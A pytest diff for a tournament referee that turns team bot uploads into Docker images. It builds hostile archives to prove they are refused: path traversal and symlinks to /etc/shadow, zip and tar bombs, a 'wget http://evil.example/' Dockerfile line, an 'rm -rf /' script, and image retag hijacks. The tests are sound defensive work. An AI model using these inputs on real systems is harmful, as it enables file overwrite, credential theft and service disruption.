@@ -1,0 +1,549 @@
+"""Team uploads made into images (referee.bots.builds), against a real daemon.
+
+Every archive is made here, in the test: source zips and tarballs, a
+``docker save`` of the Node sample image, hand-made image archives (a one-file
+layer), and hostile ones of each kind.
+"""
+
+from __future__ import annotations
+
+import gzip
+import hashlib
+import io
+import json
+import re
+import secrets
+import stat
+import tarfile
+import time
+import zipfile
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from containers_helpers import FIGURES
+
+from referee.bots import builds as B
+from referee.bots.baseimage import BASE_IMAGE, ROOT
+from referee.bots.builds import BuildResult, build_source, load_image_archive, remove_image
+from referee.bots.container import ContainerBot
+from referee.match import play_match
+
+PY_BOT = '''\
+"""A team's bot: the greedy sample's play, through the SDK."""
+from protocol import APIVERSION, ActRequest, BotInfo
+from sample_bots.sdk import run_bot
+from sample_bots.strategy import lowest_play_index
+
+from helper import NAME
+
+INFO = BotInfo(apiversion=APIVERSION, name=NAME, author="team", version="1")
+
+
+def decide(request: ActRequest) -> int:
+    return lowest_play_index(request.legal)
+
+
+if __name__ == "__main__":
+    run_bot(decide, INFO)
+'''
+
+#: A label value the Dockerfile must not expand nor cut.
+NOTE = 'team $HOME "quoted" \\ ${PATH} end'
+
+#: Tags this module makes (removed at its end).
+PREFIX = "referee-test-builds"
+
+
+def tag(name: str) -> str:
+    return f"{PREFIX}-{name}:1"
+
+
+# ------------------------------------------------------------- archives
+
+
+def make_zip(path: Path, files: dict[str, bytes | str], *, links: dict[str, str] | None = None) -> Path:
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
+        for name, data in files.items():
+            zf.writestr(name, data)
+        for name, target in (links or {}).items():
+            info = zipfile.ZipInfo(name)
+            info.external_attr = (stat.S_IFLNK | 0o777) << 16
+            zf.writestr(info, target)
+    return path
+
+
+def make_tar(path: Path, files: dict[str, bytes | str], *, gz: bool = True,
+             special: list[tarfile.TarInfo] = ()) -> Path:  # type: ignore[assignment]
+    with tarfile.open(path, "w:gz" if gz else "w") as tar:
+        for name, data in files.items():
+            raw = data.encode() if isinstance(data, str) else data
+            info = tarfile.TarInfo(name)
+            info.size = len(raw)
+            info.mode = 0o644
+            tar.addfile(info, io.BytesIO(raw))
+        for info in special:
+            tar.addfile(info)
+    return path
+
+
+def python_bot_files(name: str = "zipped-greedy") -> dict[str, bytes | str]:
+    return {"bot.py": PY_BOT, "helper.py": f"NAME = {name!r}\n"}
+
+
+def image_archive(path: Path, *, manifest: Any = None, config: dict[str, Any] | None = None,
+                  layer: bytes | None = None, extra: dict[str, bytes] | None = None,
+                  drop: tuple[str, ...] = ()) -> Path:
+    """A hand-made one-layer docker save archive (the layer holds /hello.txt)."""
+    if layer is None:
+        buf = io.BytesIO()
+        with tarfile.open(fileobj=buf, mode="w") as t:
+            data = f"hello {secrets.token_hex(8)}\n".encode()
+            info = tarfile.TarInfo("hello.txt")
+            info.size = len(data)
+            t.addfile(info, io.BytesIO(data))
+        layer = buf.getvalue()
+    diff = "sha256:" + hashlib.sha256(layer).hexdigest()
+    cfg = config if config is not None else {
+        "architecture": "amd64", "os": "linux", "config": {"Cmd": ["/hello"]},
+        "rootfs": {"type": "layers", "diff_ids": [diff]},
+    }
+    cfg_bytes = json.dumps(cfg).encode()
+    cfg_name = hashlib.sha256(cfg_bytes).hexdigest() + ".json"
+    man = manifest if manifest is not None else [
+        {"Config": cfg_name, "RepoTags": ["team-image:1"], "Layers": ["abc/layer.tar"]}
+    ]
+    files = {"manifest.json": json.dumps(man).encode(), cfg_name: cfg_bytes, "abc/layer.tar": layer,
+             **(extra or {})}
+    return make_tar(path, {k: v for k, v in files.items() if k not in drop}, gz=False)
+
+
+def save_image(client: Any, image: str, path: Path) -> Path:
+    with path.open("wb") as f:
+        for chunk in client.images.get(image).save(named=True):
+            f.write(chunk)
+    return path
+
+
+def retagged(saved: Path, path: Path, repo_tags: list[str]) -> Path:
+    """A copy of a docker save archive whose manifest and repositories claim `repo_tags`."""
+    with tarfile.open(saved) as src, tarfile.open(path, "w") as out:
+        for info in src:
+            if info.name == "manifest.json":
+                man = json.load(src.extractfile(info))  # type: ignore[arg-type]
+                man[0]["RepoTags"] = repo_tags
+                data = json.dumps(man).encode()
+            elif info.name == "repositories":
+                top = json.load(src.extractfile(info))  # type: ignore[arg-type]
+                layer = next(iter(next(iter(top.values())).values()))
+                data = json.dumps({t.split(":")[0]: {t.split(":")[1]: layer} for t in repo_tags}).encode()
+            else:
+                out.addfile(info, src.extractfile(info) if info.isreg() else None)
+                continue
+            info.size = len(data)
+            out.addfile(info, io.BytesIO(data))
+    return path
+
+
+# ------------------------------------------------------------- fixtures
+
+
+@pytest.fixture(scope="module")
+def client(docker_client: Any) -> Iterator[Any]:
+    t0 = time.perf_counter()
+    B.ensure_sdk_image(docker_client)
+    FIGURES["sdk image ready (built or reused)"] = f"{time.perf_counter() - t0:.1f} s"
+    yield docker_client
+    for image in docker_client.images.list(name=f"{PREFIX}-*"):
+        for t in image.tags:
+            if t.startswith(PREFIX):
+                remove_image(t, docker_client)
+
+
+def refused(result: BuildResult, *needles: str) -> str:
+    assert not result.ok, result
+    assert result.image_id is None and result.reason is not None
+    assert "\n" not in result.reason, result.reason
+    for needle in needles:
+        assert needle in result.reason, result.reason
+    assert result.reason in result.log
+    return result.reason
+
+
+def labels_of(client: Any, image_id: str) -> dict[str, str]:
+    return dict(client.images.get(image_id).attrs["Config"].get("Labels") or {})
+
+
+@pytest.fixture(scope="module")
+def python_bot(client: Any, tmp_path_factory: pytest.TempPathFactory) -> BuildResult:
+    folder = tmp_path_factory.mktemp("py")
+    files = {f"mybot/{k}": v for k, v in python_bot_files().items()}
+    files["mybot/Dockerfile"] = "FROM alpine\nRUN wget http://evil.example/\n"  # ignored
+    files["mybot/requirements.txt"] = "aiohttp>=3.9\nmsgspec\n"
+    files["__MACOSX/mybot/._bot.py"] = b"\0\5\26\7"
+    files["mybot/__pycache__/bot.cpython-311.pyc"] = b"junk"
+    archive = make_zip(folder / "upload.bin", files)  # the name says nothing: content does
+    result = build_source(archive, tag=tag("py"), labels={"referee.team": "7", "referee.note": NOTE},
+                          client=client)
+    FIGURES["python source bot build"] = f"{result.seconds:.1f} s"
+    return result
+
+
+@pytest.fixture(scope="module")
+def node_bot(client: Any, tmp_path_factory: pytest.TempPathFactory) -> BuildResult:
+    folder = tmp_path_factory.mktemp("node")
+    code = (ROOT / "sample_bots" / "node" / "bot.js").read_text()
+    archive = make_tar(folder / "node.tgz", {"node/bot.js": code + f"// {secrets.token_hex(4)}\n"})
+    result = build_source(archive, tag=tag("node"), labels={"referee.team": "8"}, client=client)
+    FIGURES["node source bot build"] = f"{result.seconds:.1f} s"
+    return result
+
+
+@pytest.fixture(scope="module")
+def saved_node(client: Any, images: dict[str, str], tmp_path_factory: pytest.TempPathFactory) -> Path:
+    if "node" not in images:
+        pytest.skip("node is not installed: no Node sample image")
+    return save_image(client, images["node"], tmp_path_factory.mktemp("saved") / "node.tar")
+
+
+# ------------------------------------------------------------- source bots
+
+
+async def test_python_source_zip_builds_and_plays(client: Any, python_bot: BuildResult, out: Path) -> None:
+    r = python_bot
+    assert r.ok, r.log
+    assert r.reason is None and r.kind == "python" and r.tag == tag("py")
+    assert r.image_id is not None and r.image_id.startswith("sha256:")
+    assert str(client.images.get(r.tag).id) == r.image_id
+    assert r.parent_id == str(client.images.get(B.SDK_IMAGE).id)
+    labels = labels_of(client, r.image_id)
+    assert labels[B.BUILT_BY_LABEL] == "referee" and labels[B.SOURCE_LABEL] == "python"
+    assert labels["referee.team"] == "7" and labels[B.INPUT_LABEL] == r.input_sha256
+    assert labels["referee.note"] == NOTE  # quoted: nothing expanded
+    assert "your Dockerfile is ignored" in r.log and "wget" not in r.log
+    assert "requirements.txt: every package it names is in the base image" in r.log
+    config = client.images.get(r.image_id).attrs["Config"]
+    assert config["Cmd"] == ["python", "bot.py"] and config["User"] == "65534:65534"
+    assert config["WorkingDir"] == "/app/bot"
+    async with ContainerBot(r.image_id, out_dir=out, name="zipped") as bot:
+        assert (await bot.handshake()).name == "zipped-greedy"
+
+
+async def test_node_source_tar_gz_builds_and_plays(client: Any, node_bot: BuildResult,
+                                                   python_bot: BuildResult, out: Path) -> None:
+    if not __import__("shutil").which("node"):
+        pytest.skip("node is not installed")
+    r = node_bot
+    assert r.ok, r.log
+    assert r.kind == "node" and r.image_id == str(client.images.get(tag("node")).id)
+    assert labels_of(client, r.image_id)[B.SOURCE_LABEL] == "node"
+    assert client.images.get(r.image_id).attrs["Config"]["Cmd"] == ["node", "bot.js"]
+    assert python_bot.image_id is not None
+    async with ContainerBot(r.image_id, out_dir=out, name="node") as node, \
+            ContainerBot(python_bot.image_id, out_dir=out, name="zipped") as py:
+        assert (await node.handshake()).name == "node-greedy"
+        result = await play_match([node, py], seed=5, names=["node", "zipped"])
+    assert result.places is not None and sorted(result.places) in ([1, 2], [1, 1])
+    assert not any(result.faults), result.faults
+
+
+def test_source_kind_is_read_from_content_not_name(client: Any, tmp_path: Path) -> None:
+    files = python_bot_files()
+    for name, make in (("bot.zip", lambda p: make_tar(p, files)), ("bot.tar.gz", lambda p: make_zip(p, files)),
+                       ("plain.zip", lambda p: make_tar(p, files, gz=False))):
+        r = build_source(make(tmp_path / name), tag=tag("kinds"), client=client)
+        assert r.ok, (name, r.log)
+        assert r.kind == "python"
+
+
+def test_python_syntax_error_fails_the_build_with_the_error(client: Any, tmp_path: Path) -> None:
+    files = {**python_bot_files(), "helper.py": "NAME = 'x'\ndef broken(:\n"}
+    r = build_source(make_zip(tmp_path / "b.zip", files), tag=tag("syntax"), client=client)
+    refused(r, "Python could not compile the bot's files", "build log")
+    assert "helper.py" in r.log and "SyntaxError" in r.log
+    assert r.kind == "python"
+    steps = re.findall(r"^ ---> ([0-9a-f]{12})$", r.log, re.M)
+    assert not _exists(client, steps[-1])  # the failed build's own layer (its COPY) is gone
+
+
+def test_a_build_over_its_time_limit_is_cancelled(client: Any, tmp_path: Path) -> None:
+    """A bot whose compile step takes seconds: cut at 1 s, its build container gone."""
+    files = {**python_bot_files(), "big.py": "x = 1\n" * 400_000 + f"# {secrets.token_hex(8)}\n"}
+    archive = make_zip(tmp_path / "big.zip", files)
+    r = build_source(archive, tag=tag("slow"), client=client, timeout_s=1.0)
+    refused(r, "the build took longer than 1 s")
+    assert r.seconds < 12
+    time.sleep(1.0)
+    building = [c for c in client.containers.list(all=True) if "compileall" in json.dumps(c.attrs["Config"]["Cmd"])]
+    assert building == []
+    with pytest.raises(Exception):
+        client.images.get(tag("slow"))
+
+
+@pytest.mark.parametrize("case,needles", [
+    ("traversal", ("leaves its folder", "'..'")),
+    ("absolute", ("absolute path",)),
+    ("zip symlink", ("symbolic link",)),
+    ("control chars", ("control characters",)),
+    ("duplicate", ("appears twice",)),
+    ("no bot", ("no bot.py", "zip -r")),
+    ("both", ("both bot.py",)),
+    ("requirements", ("requirements.txt asks for numpy", "no network")),
+    ("node deps", ("no node_modules", "npm install")),
+    ("node main missing", ("entry file 'src/main.js'",)),
+    ("not an archive", ("not a .zip or .tar.gz archive",)),
+    ("empty file", ("the file is empty",)),
+])
+def test_source_refusals(client: Any, tmp_path: Path, case: str, needles: tuple[str, ...]) -> None:
+    p = tmp_path / "upload"
+    bot = python_bot_files()
+    make = {
+        "traversal": lambda: make_zip(p, {**bot, "../../etc/cron.d/evil": "x"}),
+        "absolute": lambda: make_zip(p, {**bot, "/etc/passwd": "x"}),
+        "zip symlink": lambda: make_zip(p, bot, links={"secrets": "/etc/shadow"}),
+        "control chars": lambda: make_zip(p, {**bot, "evil\x1b[2J.py": "x"}),
+        "duplicate": lambda: make_zip(p, {**bot, "./bot.py": "x"}),
+        "no bot": lambda: make_zip(p, {"main.py": "print(1)", "other/x.py": ""}),
+        "both": lambda: make_zip(p, {**bot, "bot.js": ""}),
+        "requirements": lambda: make_zip(p, {**bot, "requirements.txt": "aiohttp\nnumpy==2.0  # fast\n"}),
+        "node deps": lambda: make_zip(p, {"package.json": '{"dependencies": {"ws": "^8"}}', "bot.js": ""}),
+        "node main missing": lambda: make_zip(p, {"package.json": '{"main": "src/main.js"}', "index.js": ""}),
+        "not an archive": lambda: (p.write_bytes(b"#!/bin/sh\nrm -rf /\n"), p)[1],
+        "empty file": lambda: (p.write_bytes(b""), p)[1],
+    }[case]
+    archive = make()
+    r = build_source(archive, tag=tag("refused"), client=client)
+    refused(r, *needles)
+    assert r.seconds < 5
+
+
+@pytest.mark.parametrize("kind", ["symlink", "hardlink", "device", "fifo"])
+def test_tar_links_and_devices_are_refused(client: Any, tmp_path: Path, kind: str) -> None:
+    info = tarfile.TarInfo("innocent.py")
+    if kind == "symlink":
+        info.type, info.linkname = tarfile.SYMTYPE, "/etc/shadow"
+    elif kind == "hardlink":
+        info.type, info.linkname = tarfile.LNKTYPE, "bot.py"
+    elif kind == "device":
+        info.type, info.devmajor, info.devminor = tarfile.CHRTYPE, 1, 3
+    else:
+        info.type = tarfile.FIFOTYPE
+    r = build_source(make_tar(tmp_path / "t.tgz", python_bot_files(), special=[info]), tag=tag("refused"),
+                     client=client)
+    word = {"symlink": "a symbolic link", "hardlink": "a hard link", "device": "a device", "fifo": "a fifo"}[kind]
+    refused(r, word, "'innocent.py'", "only files and folders")
+
+
+def test_zip_bomb_declared_size(client: Any, tmp_path: Path) -> None:
+    """40 MiB of zeros in a ~40 KB zip: refused on what the zip declares, nothing unpacked."""
+    p = tmp_path / "bomb.zip"
+    with zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as zf:
+        zf.writestr("bot.py", PY_BOT)
+        with zf.open("zeros.bin", "w", force_zip64=True) as f:
+            for _ in range(40):
+                f.write(b"\0" * 1024**2)
+    assert p.stat().st_size < 1024**2
+    r = build_source(p, tag=tag("refused"), client=client, max_unpacked_bytes=16 * 1024**2)
+    refused(r, "unpacks to more than 16.0 MiB")
+
+
+def test_zip_bomb_that_lies_about_its_size(client: Any, tmp_path: Path) -> None:
+    """A zip that declares 1 KB for 50 MiB of zeros: the bytes read are counted, it stops early."""
+    p = tmp_path / "liar.zip"
+    with zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as zf:
+        zf.writestr("bot.py", PY_BOT)
+        zf.writestr("zeros.bin", b"\0" * (50 * 1024**2))
+    data = bytearray(p.read_bytes())
+    true_size = (50 * 1024**2).to_bytes(4, "little")
+    lie = (1024).to_bytes(4, "little")
+    # The uncompressed size, in the local header and in the central directory.
+    count = 0
+    start = 0
+    while (i := data.find(b"zeros.bin", start)) >= 0:
+        for off in range(max(0, i - 46), i):
+            if data[off:off + 4] == true_size:
+                data[off:off + 4] = lie
+                count += 1
+                break
+        start = i + 1
+    assert count == 2
+    p.write_bytes(bytes(data))
+    r = build_source(p, tag=tag("refused"), client=client)
+    refused(r, "zeros.bin")
+    assert "more than the size the archive declares" in (r.reason or "") or "cannot be unpacked" in (r.reason or "")
+
+
+def test_tar_gz_bomb(client: Any, tmp_path: Path) -> None:
+    p = tmp_path / "bomb.tgz"
+    with tarfile.open(p, "w:gz") as tar:
+        info = tarfile.TarInfo("bot.py")
+        info.size = 40 * 1024**2
+        tar.addfile(info, io.BytesIO(b"\0" * info.size))
+    assert p.stat().st_size < 1024**2
+    r = build_source(p, tag=tag("refused"), client=client, max_unpacked_bytes=8 * 1024**2)
+    refused(r, "unpacks to more than 8.0 MiB")
+
+
+def test_too_many_files_and_too_big_an_upload(client: Any, tmp_path: Path) -> None:
+    files = {**python_bot_files(), **{f"data/{i}.txt": "" for i in range(60)}}
+    r = build_source(make_zip(tmp_path / "many.zip", files), tag=tag("refused"), client=client, max_files=50)
+    refused(r, "more than 50 files and folders")
+    r = build_source(make_tar(tmp_path / "many.tgz", files), tag=tag("refused"), client=client, max_files=50)
+    refused(r, "more than 50 files and folders")
+    r = build_source(make_zip(tmp_path / "big.zip", {**python_bot_files(), "x": secrets.token_bytes(4096)}),
+                     tag=tag("refused"), client=client, max_bytes=2048)
+    refused(r, "more than the limit of")
+
+
+def test_a_docker_save_uploaded_as_source_says_so(client: Any, tmp_path: Path) -> None:
+    r = build_source(image_archive(tmp_path / "img.tar"), tag=tag("refused"), client=client)
+    refused(r, "docker save archive", "submit it as an image")
+
+
+# ---------------------------------------------------- docker save archives
+
+
+async def test_docker_save_of_the_node_sample_loads_pinned(client: Any, images: dict[str, str],
+                                                           saved_node: Path, out: Path) -> None:
+    node_id = str(client.images.get(images["node"]).id)
+    r = load_image_archive(saved_node, tag=tag("saved"), labels={"referee.team": "9"}, client=client)
+    FIGURES["docker-save load (104 MB, layers known)"] = f"{r.seconds:.1f} s"
+    assert r.ok, r.log
+    assert r.kind == "image" and r.parent_id == node_id
+    assert r.image_id is not None and r.image_id != node_id
+    assert str(client.images.get(tag("saved")).id) == r.image_id
+    assert r.input_sha256 == B.file_sha256(saved_node)
+    labels = labels_of(client, r.image_id)
+    assert labels[B.BUILT_BY_LABEL] == "referee" and labels[B.SOURCE_LABEL] == "image"
+    assert labels["referee.team"] == "9"
+    assert labels.get("referee.inputs") == ""  # the image's own referee.* label is blanked
+    assert "its own names, ignored: referee-bot-node:local" in r.log
+    async with ContainerBot(r.image_id, out_dir=out, name="loaded") as bot:
+        assert (await bot.handshake()).name == "node-greedy"
+
+
+def test_an_archive_claiming_the_base_tag_renames_nothing(client: Any, images: dict[str, str],
+                                                          saved_node: Path, tmp_path: Path) -> None:
+    node_id = str(client.images.get(images["node"]).id)
+    base_id = str(client.images.get(BASE_IMAGE).id)
+    # The attack is real: a plain docker load of such an archive moves the name.
+    victim = tag("victim")
+    client.images.get(BASE_IMAGE).tag(victim)
+    with retagged(saved_node, tmp_path / "plain.tar", [victim]).open("rb") as f:
+        list(client.images.load(f))
+    assert str(client.images.get(victim).id) == node_id
+    client.images.get(BASE_IMAGE).tag(victim)
+    before = {t: str(client.images.get(t).id) for t in (BASE_IMAGE, images["greedy"], tag("py"), victim)
+              if _exists(client, t)}
+    assert before[BASE_IMAGE] == before[victim] == base_id
+    hostile = retagged(saved_node, tmp_path / "hostile.tar", list(before))
+    r = load_image_archive(hostile, tag=tag("hostile"), client=client)
+    assert r.ok, r.log
+    after = {t: str(client.images.get(t).id) for t in before}
+    assert after == before
+    assert r.parent_id == node_id and str(client.images.get(tag("hostile")).id) == r.image_id
+    assert f"its own names, ignored: {BASE_IMAGE}" in r.log
+
+
+def test_a_load_over_its_time_limit_is_cut(client: Any, saved_node: Path) -> None:
+    r = load_image_archive(saved_node, tag=tag("slowload"), client=client, timeout_s=0.2)
+    refused(r, "loading the image took longer than 0.2 s")
+    assert r.seconds < 12
+    assert not _exists(client, tag("slowload"))
+
+
+def _exists(client: Any, image: str) -> bool:
+    try:
+        client.images.get(image)
+    except Exception:  # noqa: BLE001
+        return False
+    return True
+
+
+def test_a_hand_made_image_archive_loads(client: Any, tmp_path: Path) -> None:
+    r = load_image_archive(image_archive(tmp_path / "i.tar", extra={"repositories": b'{"referee-base":{"local":"x"}}'}),
+                           tag=tag("handmade"), client=client)
+    assert r.ok, r.log
+    assert labels_of(client, r.image_id or "")[B.INPUT_LABEL] == r.input_sha256
+    assert client.images.get(r.parent_id).attrs["Config"]["Cmd"] == ["/hello"]
+
+
+def _two_images(p: Path) -> Path:
+    one = {"Config": "a.json", "Layers": ["abc/layer.tar"]}
+    return image_archive(p, manifest=[one, {**one, "Config": "b.json"}])
+
+
+def _config(**override: Any) -> dict[str, Any]:
+    return {"architecture": "amd64", "os": "linux", "rootfs": {"type": "layers", "diff_ids": ["sha256:" + "0" * 64]},
+            **override}
+
+
+@pytest.mark.parametrize("case,needles", [
+    ("not a tar", ("not a tar archive", "docker save IMAGE -o bot.tar")),
+    ("gzip", ("gzip-compressed",)),
+    ("no manifest", ("no manifest.json",)),
+    ("bad manifest", ("not a docker save manifest",)),
+    ("two images", ("holds 2 images", "exactly one")),
+    ("no image", ("holds 0 images",)),
+    ("missing layer", ("layer 1 'abc/layer.tar' is missing from the archive",)),
+    ("missing config", ("the image config", "is missing")),
+    ("traversal", ("not a plain path inside the archive",)),
+    ("link out", ("links outside the archive",)),
+    ("onbuild", ("ONBUILD",)),
+    ("arm", ("for arm64 CPUs", "--platform")),
+    ("layer count", ("config lists 2 layers but manifest.json 1",)),
+    ("wrong layer", ("the Docker daemon refused the archive",)),
+    ("too big", ("more than the limit of",)),
+])
+def test_image_archive_refusals(client: Any, tmp_path: Path, case: str, needles: tuple[str, ...]) -> None:
+    p = tmp_path / "upload.tar"
+    base_id = str(client.images.get(BASE_IMAGE).id)
+    link = tarfile.TarInfo("abc/layer.tar")
+    link.type, link.linkname = tarfile.SYMTYPE, "../../../etc/passwd"
+    make = {
+        "not a tar": lambda: (p.write_bytes(secrets.token_bytes(4096)), p)[1],
+        "gzip": lambda: (p.write_bytes(gzip.compress(image_archive(tmp_path / "x.tar").read_bytes())), p)[1],
+        "no manifest": lambda: image_archive(p, drop=("manifest.json",)),
+        "bad manifest": lambda: image_archive(p, manifest={"Config": 3}),
+        "two images": lambda: _two_images(p),
+        "no image": lambda: image_archive(p, manifest=[]),
+        "missing layer": lambda: image_archive(p, drop=("abc/layer.tar",)),
+        "missing config": lambda: image_archive(p, manifest=[{"Config": "nope.json", "Layers": ["abc/layer.tar"]}]),
+        "traversal": lambda: image_archive(p, manifest=[{"Config": "../../x.json", "Layers": ["abc/layer.tar"]}]),
+        "link out": lambda: _with_member(image_archive(tmp_path / "x.tar", drop=("abc/layer.tar",)), p, link),
+        "onbuild": lambda: image_archive(p, config=_config(config={"OnBuild": ["RUN evil"]})),
+        "arm": lambda: image_archive(p, config=_config(architecture="arm64")),
+        "layer count": lambda: image_archive(p, config=_config(rootfs={"type": "layers", "diff_ids": ["a", "b"]})),
+        "wrong layer": lambda: image_archive(p, config=_config()),  # the diff id is not the layer's
+        "too big": lambda: image_archive(p),
+    }[case]
+    archive = make()
+    r = load_image_archive(archive, tag=tag("refused"), client=client,
+                           max_bytes=1024 if case == "too big" else B.DEFAULT_MAX_IMAGE_BYTES)
+    refused(r, *needles)
+    assert str(client.images.get(BASE_IMAGE).id) == base_id
+    assert not _exists(client, tag("refused"))
+
+
+def _with_member(src: Path, dst: Path, member: tarfile.TarInfo) -> Path:
+    with tarfile.open(src) as a, tarfile.open(dst, "w") as b:
+        for info in a:
+            b.addfile(info, a.extractfile(info) if info.isreg() else None)
+        b.addfile(member)
+    return dst
+
+
+# ------------------------------------------------------------- clean-up
+
+
+def test_remove_image_removes_only_the_service_tag(client: Any, tmp_path: Path) -> None:
+    r = load_image_archive(image_archive(tmp_path / "i.tar"), tag=tag("gone"), client=client)
+    assert r.ok and r.image_id is not None
+    assert not remove_image(tag("gone"), client, image_id="sha256:" + "0" * 64)  # not that image
+    assert remove_image(tag("gone"), client, image_id=r.image_id)
+    assert not _exists(client, r.image_id)  # nothing else named it: the image went too
+    assert not remove_image(tag("gone"), client)
+    assert _exists(client, BASE_IMAGE)
+    found = client.images.list(filters={"label": f"{B.BUILT_BY_LABEL}=referee"})
+    assert all(B.INPUT_LABEL in (i.labels or {}) for i in found)
